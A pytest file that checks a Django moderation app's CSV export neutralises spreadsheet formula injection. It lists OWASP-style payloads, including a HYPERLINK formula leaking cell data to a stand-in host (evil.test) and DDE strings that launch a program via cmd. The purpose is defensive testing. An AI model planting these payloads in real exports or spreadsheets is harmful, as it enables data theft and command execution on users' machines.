"""The CSV export neutralises cells a spreadsheet would run as formulas (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from moderation.services import correction_create
from moderation.tests.factories import predicted_meme

# OWASP's CSV-injection payloads: every formula-leading character, a DDE command, a
# hyperlink that leaks data, and the tab / carriage return that some spreadsheets skip.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A=1+2",
    "|calc",
    "\t=1+2",
    "\r=1+2",
]
FORMULA_START = ("=", "+", "-", "@", "|", "%", "\t", "\r")


@pytest.fixture
def hostile(sentiment, version, moderator):
    """One decided meme per payload, with the payload in every user-controlled column."""
    memes = []
    for payload in PAYLOADS:
        meme = predicted_meme(
            version, 0.8, original_name=payload, caption=payload, ocr_text=payload
        )
        correction_create(
            meme=meme,
            label_set=sentiment,
            moderator=moderator,
            new_label="negative",
            new_text=payload + " corrected",
        )
        memes.append(meme)
    return memes


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_it_neutralises_formula_payloads_in_every_user_controlled_column(mod_client, hostile):
    rows = _rows(mod_client.get(reverse("moderation:export_csv")))
    assert len(rows) == len(PAYLOADS)
    for row, payload, meme in zip(rows, PAYLOADS, hostile, strict=True):
        # The corrected text as stored (the review service trims surrounding whitespace).
        corrected = meme.corrections.order_by("-id").first().new_text
        assert corrected.startswith(FORMULA_START)
        for column, expected in (
            ("file_name", payload),
            ("caption", payload),
            ("text", corrected),
        ):
            cell = row[column]
            assert not cell.startswith(FORMULA_START), (column, cell)
            # Neutralised, not lost: a leading quote, and the payload after it (defusedcsv
            # also escapes "|" so no DDE command survives).
            assert cell.startswith("'"), (column, cell)
            assert cell[1:].replace("\\|", "|") == expected, (column, cell)


def test_it_neutralises_a_moderator_name_that_starts_like_a_formula(
    mod_client, sentiment, version, django_user_model
):
    # Django's username rules allow a leading + - or @.
    odd = django_user_model.objects.create_user("+1-2@x", password="x")
    meme = predicted_meme(version, 0.8)
    correction_create(meme=meme, label_set=sentiment, moderator=odd, new_label="negative")
    (row,) = _rows(mod_client.get(reverse("moderation:export_csv")))
    assert row["moderator"] == "'+1-2@x"


def test_it_leaves_plain_text_and_numbers_alone(mod_client, sentiment, version, moderator):
    meme = predicted_meme(version, 0.8, original_name="cat.png", caption="-12.5", ocr_text="A=B")
    correction_create(meme=meme, label_set=sentiment, moderator=moderator, new_label="negative")
    (row,) = _rows(mod_client.get(reverse("moderation:export_csv")))
    assert (row["file_name"], row["caption"], row["text"]) == ("cat.png", "-12.5", "A=B")


def test_the_json_lines_keep_the_values_exactly(mod_client, hostile):
    import json

    response = mod_client.get(reverse("moderation:export_jsonl"))
    lines = b"".join(response.streaming_content).decode().splitlines()
    rows = [json.loads(line) for line in lines]
    assert [r["caption"] for r in rows] == PAYLOADS
